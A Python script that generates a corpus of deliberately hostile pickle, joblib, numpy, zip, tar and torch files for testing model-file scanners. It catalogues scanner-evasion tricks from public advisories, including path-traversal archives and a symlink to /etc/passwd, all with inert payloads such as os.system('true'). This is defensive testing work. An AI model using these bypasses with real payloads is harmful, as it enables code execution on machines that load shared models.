"""Files that do something when they are loaded, one for each trick of the public advisories: fixtures/audit/corpus.json.

    python oracle/scan/malicious.py            writes the corpus, with what Python did
    python oracle/scan/malicious.py folder     writes each sample as a file of its own, for scripts that compare scanners

No payload harms: they call os.system('true'), or name files that do not exist. Pickles are loaded in a forked process
under an audit hook (PEP 578) that stops at the first event of a dangerous kind and says which; `did` is that event, null
where the sample needs another library or another loader. `from` is where the trick was described first.
"""

import base64
import bz2
import functools
import gzip
import io
import json
import lzma
import operator
import os
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from pathlib import Path

import cloudpickle
import dill
import joblib
import joblib.numpy_pickle
import numpy as np
import pandas as pd

warnings.simplefilter("ignore")
OUT = Path(__file__).resolve().parents[2] / "fixtures/audit/corpus.json"
samples = []
names = set()


def sample(name, content, source="", suffix=".pkl"):
    assert name not in names, name
    names.add(name)
    samples.append((name, content, source, suffix))


class Call:
    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def text(word):
    encoded = word.encode("utf-8", "surrogatepass")
    return b"\x8c" + bytes([len(encoded)]) + encoded if len(encoded) < 256 else b"X" + struct.pack("<I", len(encoded)) + encoded


def name(module, word):
    return text(module) + text(word) + b"\x93"


def value(x):
    """Opcodes for a plain value."""
    if isinstance(x, bytes):
        return x
    return pickle.dumps(x, 4)[2:-1] if isinstance(x, int) else pickle.dumps(x, 3)[2:-1]


def call(module, word, *arguments):
    """Opcodes that call module.word."""
    return name(module, word) + b"(" + b"".join(value(a) for a in arguments) + b"tR"


def p4(opcodes):
    return b"\x80\x04" + opcodes + b"."


RUN = call("os", "system", "true")
RAW = b"cos\nsystem\n(S'true'\ntR."
CODE = "__import__('os').system('true')"
run = Call(os.system, "true")

# 1. Names that some scanner's deny list did not have: one call each.
NAMED = [
    ("GHSA-655q-fx9r-782v", "pip", "main", ["install", "nothing"]),
    ("GHSA-v7x6-rv5q-mhwc", "timeit", "timeit", [CODE]),
    ("GHSA-49gj-c84q-6qm9", "cProfile", "run", [CODE]),
    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", [CODE, None, None]),
    ("GHSA-7wx9-6375-f5wh", "profile", "run", [CODE]),
    ("GHSA-x696-vm39-cp64", "profile", "Profile.run", [{}, CODE]),
    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", [{}, CODE, {}, {}]),
    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", [{}, CODE]),
    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", [{}, CODE, {}, {}]),
    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", [CODE, True]),
    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", [{}, CODE]),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", [CODE]),
    ("GHSA-q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start", [{}, "true", True, None, None, None, 0]),
    ("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions", [{}, CODE, 1]),
    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", [{}, CODE]),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", [{}, CODE]),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", [CODE]),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", [{}, CODE]),
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", [{}, CODE]),
    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", [{}, CODE]),
    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", [{}, CODE]),
    ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", [{}, RAW and b"B" + struct.pack("<I", len(RAW)) + RAW]),
    ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", [None, {}, '""+' + CODE]),
    ("GHSA-vvpj-8cmc-gx39", "pkgutil", "resolve_name", ["os:system"]),
    ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", ["/nowhere/x", ["x"]]),
    ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", [None]),
    ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", [["true"]]),
    ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", [CODE, []]),
    ("GHSA-g38g-8gr9-h9xp", "uuid", "_get_command_stdout", ["true"]),
    ("GHSA-g38g-8gr9-h9xp", "_osx_support", "_read_output", ["true"]),
    ("GHSA-g38g-8gr9-h9xp", "_aix_support", "_read_cmd_output", ["true"]),
    ("GHSA-g38g-8gr9-h9xp", "imaplib", "IMAP4_stream", ["true"]),
    ("GHSA-g38g-8gr9-h9xp", "_pyrepl.pager", "pipe_pager", ["text", "true"]),
    ("GHSA-g38g-8gr9-h9xp", "test.support.script_helper", "assert_python_ok", ["-c pass"]),
    ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile", [CODE, {}]),
    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof", [CODE, {}]),
    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", [{}, CODE]),
    ("GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", [{}, CODE, []]),
    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", ["true"]),
    ("GHSA-jhph-76pp-mggw", "torch.utils.collect_env", "run_and_read_all", [1, "true"]),
    ("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ["pickle", b"C\x04N.N."]),
    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", [CODE, {}, {}]),
    ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config", [{}, b"C\x04N.N."]),
    ("CVE-2024-5480", "torch.distributed.rpc", "rpc_sync", ["x", 1]),
    ("CVE-2022-45907", "torch.jit.annotations", "parse_type_line", [CODE, 1, 1]),
    ("picklescan", "torch._inductor.codecache", "compile_file", ["", "", ["true"]]),
    ("picklescan", "torch.serialization", "load", ["/nowhere/x"]),
    ("picklescan", "torch", "load", ["/nowhere/x"]),
    ("picklescan", "torch.hub", "load", ["x/x", "x"]),
    ("picklescan", "numpy.testing._private.utils", "runstring", [CODE, {}]),
    ("picklescan", "logging", "FileHandler", ["/nowhere/x"]),
    ("picklescan", "_io", "FileIO", ["/nowhere/x"]),
    ("picklescan", "urllib.request", "urlopen", ["http://localhost:1/"]),
    ("picklescan", "ssl", "get_server_certificate", [("localhost", 1)]),
    ("picklescan", "commands", "getoutput", ["true"]),
    ("picklescan", "requests.api", "get", ["http://localhost:1/"]),
    ("picklescan", "httplib", "HTTPSConnection", ["localhost"]),
    ("picklescan", "aiohttp.client", "ClientSession", ["http://localhost:1/"]),
    ("picklescan", "webbrowser", "open", ["http://localhost:1/"]),
    ("picklescan", "runpy", "run_path", ["/nowhere/x"]),
    ("picklescan", "shutil", "rmtree", ["/nowhere/x"]),
    ("picklescan", "pdb", "run", [CODE]),
    ("picklescan", "bdb", "Bdb.run", [{}, CODE]),
    ("picklescan", "venv", "create", ["/nowhere/x"]),
    ("GHSA-565g-hwwr-4pp3", "marshal", "loads", [b"C\x01N"]),
    ("GHSA-r7v6-mfhq-g3m2", "pty", "fork", []),
    ("GHSA-m6fh-58r7-x697", "_posixsubprocess", "fork_exec", [["true"], [b"C\x09/bin/true"]]),
    ("GHSA-m6fh-58r7-x697", "site", "addsitedir", ["/nowhere"]),
    ("GHSA-m6fh-58r7-x697", "atexit", "register", [1]),
    ("GHSA-6ggj-6f2q-f7mx", "_interpreters", "create", []),
    ("GHSA-6ggj-6f2q-f7mx", "_xxsubinterpreters", "create", []),
    ("fickling", "imp", "load_source", ["x", "/nowhere/x"]),
    ("fickling", "importlib", "import_module", ["antigravity"]),
    ("fickling", "importlib.util", "spec_from_file_location", ["x", "/nowhere/x"]),
    ("fickling", "zipimport", "zipimporter", ["/nowhere/x"]),
    ("fickling", "pydoc", "locate", ["os"]),
    ("fickling", "pydoc", "pipepager", ["text", "true"]),
    ("fickling", "sqlite3", "connect", ["/nowhere/x"]),
    ("fickling", "tarfile", "open", ["/nowhere/x"]),
    ("fickling", "zipfile", "ZipFile", ["/nowhere/x"]),
    ("fickling", "linecache", "getlines", ["/nowhere/x"]),
    ("fickling", "glob", "glob", ["/nowhere/*"]),
    ("fickling", "tempfile", "mkdtemp", []),
    ("fickling", "shelve", "open", ["/nowhere/x"]),
    ("fickling", "smtplib", "SMTP", ["localhost", 1]),
    ("fickling", "ftplib", "FTP", ["localhost"]),
    ("fickling", "telnetlib", "Telnet", ["localhost", 1]),
    ("fickling", "socketserver", "TCPServer", [("", 0), None]),
    ("fickling", "xmlrpc.client", "ServerProxy", ["http://localhost:1/"]),
    ("fickling", "multiprocessing.util", "spawnv_passfds", ["true", [], []]),
    ("fickling", "threading", "Thread", []),
    ("fickling", "signal", "raise_signal", [0]),
    ("fickling", "py_compile", "compile", ["/nowhere/x"]),
    ("fickling", "compileall", "compile_dir", ["/nowhere"]),
    ("fickling", "mmap", "mmap", [-1, 1]),
    ("fickling", "fileinput", "input", ["/nowhere/x"]),
    ("fickling", "platform", "popen", ["true"]),
    ("fickling", "gc", "get_objects", []),
    ("fickling", "inspect", "getsource", [1]),
    ("fickling", "unittest", "main", []),
    ("fickling", "filecmp", "cmp", ["/nowhere/x", "/nowhere/y"]),
    ("fickling", "pipes", "Template", []),
    ("modelscan", "builtins", "compile", [CODE, "", "exec"]),
    ("modelscan", "builtins", "breakpoint", []),
    ("modelscan", "builtins", "open", ["/nowhere/x", "w"]),
    ("modelscan", "builtins", "exec", [CODE]),
    ("modelscan", "builtins", "eval", [CODE]),
    ("modelscan", "builtins", "__import__", ["antigravity"]),
    ("modelscan", "sys", "exit", []),
    ("numpy", "numpy", "load", ["/nowhere/x", None, True]),
    ("numpy", "numpy", "fromfile", ["/nowhere/x"]),
    ("numpy", "numpy", "memmap", ["/nowhere/x"]),
    ("numpy", "numpy", "savetxt", ["/nowhere/x", [1]]),
    ("numpy", "numpy", "genfromtxt", ["/nowhere/x"]),
    ("numpy", "numpy.distutils.exec_command", "exec_command", ["true"]),
    ("numpy", "numpy.ctypeslib", "load_library", ["x", "/nowhere"]),
    ("numpy", "numpy.lib.npyio", "recfromcsv", ["/nowhere/x"]),
    ("pandas", "pandas", "read_pickle", ["/nowhere/x"]),
    ("pandas", "pandas", "read_csv", ["/nowhere/x"]),
    ("pandas", "pandas.io.pickle", "read_pickle", ["/nowhere/x"]),
    ("pandas", "pandas", "eval", ["1+1"]),
    ("pandas", "pandas.core.computation.eval", "eval", ["1+1"]),
    ("pandas", "pandas.io.common", "get_handle", ["/nowhere/x", "r"]),
    ("joblib", "joblib", "load", ["/nowhere/x"]),
    ("joblib", "joblib.numpy_pickle", "load", ["/nowhere/x"]),
    ("joblib", "joblib.memory", "Memory", ["/nowhere/x"]),
    ("joblib", "joblib._parallel_backends", "PoolManagerMixin", []),
    ("sklearn", "sklearn.datasets._base", "load_files", ["/nowhere"]),
    ("sklearn", "sklearn.datasets", "fetch_openml", ["x"]),
    ("sklearn", "sklearn.externals.joblib", "load", ["/nowhere/x"]),
    ("keras", "keras.models", "load_model", ["/nowhere/x"]),
    ("keras", "keras.src.saving.saving_lib", "load_model", ["/nowhere/x"]),
    ("tensorflow", "tensorflow.io.gfile", "GFile", ["/nowhere/x"]),
    ("tensorflow", "tensorflow", "py_function", [1]),
    ("transformers", "transformers.dynamic_module_utils", "get_class_from_dynamic_module", ["x", "x"]),
    ("yaml", "yaml", "unsafe_load", ["!!python/object/apply:os.system ['true']"]),
    ("jinja2", "jinja2", "Template.render", [1]),
    ("dask", "dask.base", "compute", [1]),
    ("ray", "ray.cloudpickle", "loads", [b"C\x02N."]),
    ("setuptools", "setuptools._distutils.spawn", "spawn", [["true"]]),
    ("typing", "typing", "ForwardRef._evaluate", [1, {}, {}, 1]),
    ("dataclasses", "dataclasses", "_create_fn", ["f", [], [CODE]]),
    ("logging", "logging.config", "fileConfig", ["/nowhere/x"]),
    ("logging", "logging.config", "dictConfig", [{"version": 1}]),
    ("statsmodels", "statsmodels.iolib.smpickle", "load_pickle", ["/nowhere/x"]),
    ("xgboost", "xgboost.core", "ctypes.CDLL", ["/nowhere/x"]),
]
for source, module, word, arguments in NAMED:
    label = f"calls {module}.{word}"
    sample(label, p4(call(module, word, *arguments)), source)

# 2. The same call, written in every way that pickle knows.
for protocol in range(6):
    sample(f"protocol {protocol}", pickle.dumps({"a": [1, 2], "x": run}, protocol))
sample("OBJ", b"(cos\nsystem\nS'true'\no.", "GHSA-mxhj-88fx-4pcv")
sample("OBJ and POP", b"(cos\nsystem\nS'true'\no0N.", "GHSA-mxhj-88fx-4pcv")
sample("REDUCE and POP", b"\x80\x02cos\nsystem\n(S'true'\ntR0N.", "GHSA-mxhj-88fx-4pcv")
sample("POP_MARK over a call", b"\x80\x02(cos\nsystem\n(S'true'\ntR1N.")
sample("INST", b"(S'true'\nios\nsystem\n.")
sample("NEWOBJ", b"\x80\x02csubprocess\nPopen\n(]X\x04\x00\x00\x00trueat\x81.")
sample("NEWOBJ_EX", p4(name("subprocess", "Popen") + value((["true"],)) + value({"shell": False}) + b"\x92"))
sample("copyreg.__newobj__", b"\x80\x02ccopyreg\n__newobj__\n(csubprocess\nPopen\n]X\x04\x00\x00\x00trueatR.")
sample("copy_reg._reconstructor", b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR.")
sample("Python 2's names", b"c__builtin__\neval\n(S'1'\ntR.")
sample("Python 2's apply", b"c__builtin__\napply\n(cos\nsystem\n(S'true'\nttR.")
sample("names out of the memo", p4(text("os") + b"\x94" + text("system") + b"\x940" + b"0h\x00h\x01\x93" + text("true") + b"\x85R"))
sample("a memo that is overwritten", p4(text("math") + b"\x94" + text("os") + b"q\x000" + b"0h\x00" + text("system") + b"\x93" + text("true") + b"\x85R"))
sample("names far apart", p4(text("os") + (text("math") + b"0") * 30 + text("system") + (b"N0" * 30) + b"\x93" + text("true") + b"\x85R"))
sample("a name made with DUP", p4(text("code") + b"2\x93" + text("true") + b"\x85R"))
sample("names as STRING", b"\x80\x04S'os'\nS'system'\n\x93S'true'\n\x85R.")
sample("names as escapes", b"\x80\x04V\\u006fs\nVsyste\\u006d\n\x93S'true'\n\x85R.")
sample("a name in a tuple that is opened", b"\x80\x02ccollections\nOrderedDict\n)R(cos\nsystem\nS'true'\no0.")
sample("a large memo key", p4(name("os", "system") + b"r" + struct.pack("<I", 0x7FFFFFFF) + b"0j" + struct.pack("<I", 0x7FFFFFFF) + text("true") + b"\x85R"), "picklescan keyerror")
sample("a memo key that is missing", b"\x80\x02h\x05" + RAW[:-1] + b".", "picklescan keyerror")
sample("a bad opcode behind the call", b"\x80\x04" + RUN + b"\xff\xff", "nullifAI")
sample("cut behind the call", b"\x80\x04" + RUN, "nullifAI")
sample("an opcode missing its argument", b"\x80\x04" + RUN + b"X\xff\xff\xff\xff", "nullifAI")
sample("a stack that runs empty", b"\x80\x04" + RUN + b"00000.", "nullifAI")
sample("a second pickle", pickle.dumps([1, 2]) + p4(RUN))
sample("a hundred pickles", pickle.dumps(1) * 99 + p4(RUN))
sample("text behind the pickle", RAW + b"and a text\n")
sample("text before STOP that is an opcode", b"\x80\x02" + b"(" * 50 + RAW)
sample("PROTO again and again", b"\x80\x04" * 20 + RUN + b".")
sample("a frame that ends within an opcode", b"\x80\x04\x95" + struct.pack("<Q", 3) + RUN + b".", "cpython#154848")
sample("a frame within a frame", b"\x80\x04\x95" + struct.pack("<Q", 60) + b"N0\x95" + struct.pack("<Q", len(RUN) + 1) + RUN + b".", "cpython#154848")
sample("a frame that is too long", b"\x80\x04\x95" + struct.pack("<Q", 2**40) + RUN + b".", "cpython#154848")
sample("an extension that is registered first", p4(call("copyreg", "add_extension", "os", "system", 7) + b"0\x82\x07" + text("true") + b"\x85R"))
sample("persistent id as a name", b"\x80\x02Pos.system\n" + RAW)
sample("posix", p4(call("posix", "system", "true")))
sample("nt", p4(call("nt", "system", "true")))
sample("os.execv", p4(call("os", "execv", "/bin/true", ["true"])))
sample("os.posix_spawn", p4(call("os", "posix_spawn", "/bin/true", ["true"], {})))
sample("subprocess.check_output", pickle.dumps(Call(__import__("subprocess").check_output, ["true"])))
sample("an environment that is changed", b"cos\nenviron\nS'BRINE'\nS'x'\ns.")
sample("a module that is changed", b"csys\nmodules\nS'os'\nNs.", "picklescan sys_module_override")
sample("a path that is changed", b"csys\npath\nS'/nowhere'\na.")
sample("a module in front of a name", p4(text("sklearn.base") + text("os.system") + b"\x93" + text("true") + b"\x85R"))
sample("a name that is no text", b"\x80\x04K\x01K\x02\x93.", "picklescan unknown")

# 3. What is not called by its name.
GETATTR = name("builtins", "getattr")


def getattr_of(obj, word):
    return GETATTR + b"(" + obj + text(word) + b"tR"


sample("getattr of an import", p4(getattr_of(call("builtins", "__import__", "os"), "system") + text("true") + b"\x85R"), "picklescan#66")
sample("getattr of import_module", p4(getattr_of(call("importlib", "import_module", "os"), "system") + text("true") + b"\x85R"), "picklescan#66")
sample("getattr of a class", p4(getattr_of(name("builtins", "object"), "__subclasses__") + b")R"))
sample("getattr of a function", p4(getattr_of(name("sklearn.utils.validation", "check_array"), "__globals__")))
sample("getattr of a module's module", p4(getattr_of(name("joblib.memory", "os"), "system") + text("true") + b"\x85R"))
sample("getattr of numpy's builtins", p4(call("builtins", "dict.get", name("numpy", "__builtins__"), "exec") + value((CODE,)) + b"R"), "modelscan#89")
sample("BUILD on a function", b"\x80\x02cnumpy\nprod\nNcnumpy\ncore._internal.sys.modules\n\x86b0N.", "modelscan#89")
sample("BUILD on numpy.size", b"\x80\x02cnumpy\nsize\n}X\x0c\x00\x00\x00__builtins__NsbN.", "modelscan#330")
sample("BUILD on a class", b"\x80\x02csklearn.base\nBaseEstimator\n}X\x0c\x00\x00\x00__setstate__cos\nsystem\nsb.")
sample("__setstate__ as state", p4(name("sklearn.linear_model._base", "LinearRegression") + b")\x81}" + text("__setstate__") + name("os", "system") + b"sb" + text("true") + b"b"))
sample("append as state", p4(name("sklearn.linear_model._base", "LinearRegression") + b")\x81}" + text("append") + name("os", "system") + b"sb" + text("true") + b"a"))
sample("extend as state", p4(name("sklearn.linear_model._base", "LinearRegression") + b")\x81}" + text("extend") + name("os", "system") + b"sb(" + text("true") + b"e"))
for module, word in [("pathlib", "os.system"), ("numpy", "lib.os.system"), ("joblib.memory", "os.system"), ("logging", "os.system"),
                     ("sklearn.utils", "warnings.sys.modules"), ("pandas", "io.common.os.system"), ("collections", "abc.sys.modules"),
                     ("builtins", "object.__subclasses__"), ("numpy", "ndarray.__reduce__.__self__"), ("torch", "os.system")]:
    sample(f"dotted: {module} {word}", p4(name(module, word) + text("true") + b"\x85R"), "GHSA-5j3x-jp52-966f")
sample("attrgetter", p4(call("operator", "attrgetter", "system") + call("builtins", "__import__", "os") + b"\x85R" + text("true") + b"\x85R"), "GHSA-46h3-79wf-xr6c")
sample("methodcaller", p4(call("operator", "methodcaller", "system", "true") + call("pydoc", "locate", "os") + b"\x85R"), "GHSA-84r2-jw7c-4r5q")
sample("_operator's methodcaller", p4(call("_operator", "methodcaller", "system", "true") + name("os", "environ") + b"\x85R"), "GHSA-955r-x9j8-7rhh")
sample("attrgetter of globals", p4(call("operator", "attrgetter", "__globals__") + name("pandas", "isna") + b"\x85R"))
sample("itemgetter of builtins", p4(call("operator", "itemgetter", "exec") + name("numpy", "__builtins__") + b"\x85R" + value((CODE,)) + b"R"))
sample("partial", p4(call("functools", "partial", name("os", "system"), "true") + b")R"), "fickling")
sample("partial of a partial", pickle.dumps(Call(functools.partial(functools.partial(os.system), "true"))))
sample("reduce", p4(call("functools", "reduce", name("os", "system"), ["true"], 1)))
sample("map", p4(call("builtins", "list", call("builtins", "map", name("os", "system"), ["true"]))))
sample("map into a deque", p4(call("collections", "deque", call("builtins", "map", name("os", "system"), ["true"]))))
sample("map into a dict", p4(call("builtins", "dict.fromkeys", call("builtins", "map", name("os", "system"), ["true"]))))
sample("filter into a set", p4(call("builtins", "set", call("builtins", "filter", name("os", "system"), ["true"]))))
sample("starmap", p4(call("builtins", "list", call("itertools", "starmap", name("os", "system"), [("true",)]))))
sample("accumulate", p4(call("builtins", "list", call("itertools", "accumulate", ["true", "x"], name("os", "system")))))
sample("iter with a callable", p4(call("builtins", "list", call("builtins", "iter", name("os", "getcwd"), "x"))))
sample("vectorize, called", p4(call("numpy", "vectorize", name("os", "system")) + text("true") + b"\x85R"))
sample("frompyfunc, called", p4(call("numpy", "frompyfunc", name("os", "system"), 1, 1) + text("true") + b"\x85R"))
sample("apply_along_axis", p4(call("numpy", "apply_along_axis", name("os", "system"), 0, [1])))
sample("DataFrame.eval", pickle.dumps(Call(pd.DataFrame({"a": [1]}).eval, "@" + CODE)))
sample("DataFrame.query", pickle.dumps(Call(pd.DataFrame({"a": [1]}).query, "@" + CODE)))
sample("DataFrame.to_pickle", pickle.dumps(Call(pd.DataFrame({"a": [1]}).to_pickle, "/nowhere/x")))
sample("Series.apply", pickle.dumps(Call(pd.Series(["true"]).apply, os.system)))
sample("ndarray.tofile", pickle.dumps(Call(np.arange(3).tofile, "/nowhere/x")))
sample("ndarray.dump", pickle.dumps(Call(np.arange(3).dump, "/nowhere/x")))
sample("_ufunc_reconstruct", p4(call("numpy.core", "_ufunc_reconstruct", "os", "system") + text("true") + b"\x85R"))
sample("Path.write_text", p4(getattr_of(call("pathlib", "PosixPath", "/nowhere/x"), "write_text") + text("x") + b"\x85R"))
sample("Path.unlink", p4(call("pathlib", "Path.unlink", call("pathlib", "PosixPath", "/nowhere/x"))))
sample("types.FunctionType of marshal", p4(call("types", "FunctionType", call("marshal", "loads", __import__("marshal").dumps(compile(CODE, "", "exec"))), {}) + b")R"))
sample("a lambda, called", cloudpickle.dumps(Call(lambda x: open("/nowhere/x"), 1)), "GHSA-9m3x-qqw2-h32h")
sample("a nested function, called", cloudpickle.dumps(Call((lambda y: lambda x: os.getpid() + x + y)(1), 1)), "GHSA-9m3x-qqw2-h32h")
sample("a lambda that map calls", cloudpickle.dumps(Call(list, Call(map, lambda x: __import__("os").system(x), ["true"]))))


class Carried:
    def __setstate__(self, state):
        os.system("true")

    def __getstate__(self):
        return {"a": 1}


sample("a carried class with __setstate__", cloudpickle.dumps(Carried()))
sample("a lambda by dill, called", dill.dumps(Call(lambda x: open("/nowhere/x"), 1), recurse=True))
sample("dill's way to a name", p4(call("dill._dill", "_get_attr", call("dill._dill", "_import_module", "os"), "system") + text("true") + b"\x85R"))
sample("dill's module that is a function", p4(call("dill._dill", "_import_module", "os.system") + text("true") + b"\x85R"))
sample("dill's _eval_repr", p4(call("dill._dill", "_eval_repr", CODE)))
sample("dill's file handle", p4(call("dill._dill", "_create_filehandle", "/nowhere/x", "w", 0, False, name("builtins", "open"), False, 0, "")))
sample("cloudpickle's subimport, used", p4(getattr_of(call("cloudpickle.cloudpickle", "subimport", "os"), "system") + text("true") + b"\x85R"))
sample("scipy's argument parser", p4(name("scipy.stats._continuous_distns", "uniform_gen") + b")\x81}" + text("_parse_arg_template") + text(CODE) + b"sb"), "scipy rv_generic.__setstate__")
sample("a string that is made of pieces", p4(getattr_of(text(""), "join") + value((["o", "s"],)) + b"R" + text("system") + b"\x93" + text("true") + b"\x85R"))

# 4. A pickle within something else.
inner = p4(RUN)
for module, word in [("pickle", "loads"), ("_pickle", "loads"), ("cPickle", "loads"), ("dill", "loads"), ("cloudpickle", "loads"),
                     ("torch.storage", "_load_from_bytes"), ("pandas.compat.pickle_compat", "loads")]:
    sample(f"nested in {module}.{word}", p4(call(module, word, inner)), "GHSA-84r2-jw7c-4r5q")
objects = np.array([run, 1], dtype=object)


def dumped(what, **options):
    stream = io.BytesIO()
    joblib.dump(what, stream, **options)
    return stream.getvalue()


sample("in a joblib object array", dumped({"m": objects}), "CVE-2024-34997", ".joblib")
sample("behind a joblib array", dumped([np.arange(40.0), run]), "", ".joblib")
for compressor in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4"):
    sample(f"joblib, {compressor}", dumped({"m": [run, np.arange(4.0)]}, compress=(compressor, 3)), "", ".joblib")
    sample(f"object array in joblib, {compressor}", dumped({"m": objects}, compress=(compressor, 3)), "CVE-2024-34997", ".joblib")
sample("joblib's oldest compression", b"ZF" + hex(len(RAW)).ljust(19).encode() + zlib.compress(RAW), "", ".joblib")
for label, packed, suffix in [("gzip", gzip.compress(inner, mtime=0), ".gz"), ("bz2", bz2.compress(inner), ".bz2"), ("xz", lzma.compress(inner), ".xz"),
                              ("lzma", lzma.compress(inner, lzma.FORMAT_ALONE), ".lzma"), ("zlib", zlib.compress(inner), ".z"),
                              ("gzip in gzip in gzip", gzip.compress(gzip.compress(gzip.compress(inner, mtime=0), mtime=0), mtime=0), ".gz")]:
    sample(f"compressed by {label}", packed, "", suffix)
stream = io.BytesIO()
np.save(stream, objects, allow_pickle=True)
sample("an .npy file", stream.getvalue(), "", ".npy")
npy = stream.getvalue()
stream = io.BytesIO()
np.savez(stream, a=np.arange(3), b=objects)
sample("an .npz file", stream.getvalue(), "", ".npz")
stream = io.BytesIO()
np.savez_compressed(stream, b=objects)
sample("a compressed .npz file", stream.getvalue(), "", ".npz")


def zipped(members, compression=zipfile.ZIP_STORED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for member, content in members.items():
            archive.writestr(zipfile.ZipInfo(member), content)
    return stream.getvalue()


sample("in a zip", zipped({"data.pkl": inner}), "", ".zip")
sample("in a zip, under another extension", zipped({"data.txt": inner, "readme": b"x"}), "CVE-2025-1889", ".zip")
sample("in a zip, deflated", zipped({"data.pkl": inner + b" " * 200}, zipfile.ZIP_DEFLATED), "", ".zip")
sample("in a zip in a zip", zipped({"a.zip": zipped({"b.zip": zipped({"data.pkl": inner})})}), "", ".zip")
sample("joblib in a zip", zipped({"m.joblib": dumped({"m": objects}, compress=("zlib", 3))}), "", ".zip")
plain = zipped({"data.pkl": inner})
flagged = bytearray(plain)
flagged[6] |= 1
flagged[plain.index(b"PK\x01\x02") + 8] |= 1
sample("a zip that says it is encrypted", bytes(flagged), "CVE-2025-1945", ".zip")
for bit in (0x20, 0x40):
    flagged = bytearray(plain)
    flagged[6] |= bit
    flagged[plain.index(b"PK\x01\x02") + 8] |= bit
    sample(f"a zip with flag {bit:#x}", bytes(flagged), "CVE-2025-1945", ".zip")
crc = bytearray(plain)
crc[14] ^= 0xFF
crc[plain.index(b"PK\x01\x02") + 16] ^= 0xFF
sample("a zip with a wrong checksum", bytes(crc), "CVE-2025-10156", ".zip")
renamed = bytearray(plain)
at = plain.index(b"PK\x01\x02") + 46
renamed[at : at + 8] = b"data.txt"
sample("a zip whose headers disagree on a name", bytes(renamed), "CVE-2025-1944", ".zip")
sample("a zip behind something", b"GIF89a" + b"\0" * 50 + plain, "", ".gif")
sample("a pickle before a zip", inner + plain)
sample("a zip cut short", plain[: plain.index(b"PK\x01\x02") + 10], "", ".zip")
sample("a torch file", zipped({"archive/data.pkl": b"\x80\x02}X\x01\x00\x00\x00wcos\nsystem\n(X\x04\x00\x00\x00truetRs.", "archive/version": b"3\n", "archive/byteorder": b"little"}), "CVE-2025-32434", ".pt")
sample("a torch file with a second pickle", zipped({"archive/data.pkl": b"\x80\x02}.", "archive/version": b"3\n", "archive/data/0": inner}), "CVE-2025-10155", ".pt")
sample("a torch file that sets an item of a name", zipped({"archive/data.pkl": b"\x80\x02csys\nmodules\nX\x02\x00\x00\x00osNs.", "archive/version": b"3\n"}), "CVE-2026-24747", ".pt")
MAGIC = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
sample("a legacy torch file", MAGIC + b"\x80\x02M\xe9\x03." + b"\x80\x02}." + b"\x80\x02" + RAW, "", ".pt")
sample("a torch magic made by eval", b"\x80\x02c__builtin__\neval\n(X\x04\x00\x00\x001+1)tR." + b"\x80\x02M\xe9\x03." + b"\x80\x02}." + b"\x80\x02N.", "GHSA-97f8-7cmv-76j2", ".pt")


def tarred(members, mode="w", link=None):
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode=mode, format=tarfile.USTAR_FORMAT) as archive:
        for member, content in members.items():
            info = tarfile.TarInfo(member)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
        if link:
            info = tarfile.TarInfo("link")
            info.type = tarfile.SYMTYPE
            info.linkname = link
            archive.addfile(info)
    return stream.getvalue()


sample("in a tar", tarred({"data.pkl": inner}), "", ".tar")
sample("in a tar.gz", gzip.compress(tarred({"data.bin": inner}), mtime=0), "", ".tar.gz")
sample("a tar that climbs out", tarred({"../../../../tmp/x.py": b"x"}), "CVE-2024-5187", ".tar")
sample("a tar with a link outside", tarred({"a": b"x"}, link="/etc/passwd"), "CVE-2024-5187", ".tar")
sample("a zip that climbs out", zipped({"../../../../tmp/x.py": b"x", "config.json": b"{}"}), "", ".zip")
made = joblib.numpy_pickle.NumpyArrayWrapper.__init__


def unaligned(self, subclass, shape, order, dtype, allow_mmap=False, numpy_array_alignment_bytes=None):
    made(self, subclass, shape, order, dtype, allow_mmap, None)


joblib.numpy_pickle.NumpyArrayWrapper.__init__ = unaligned
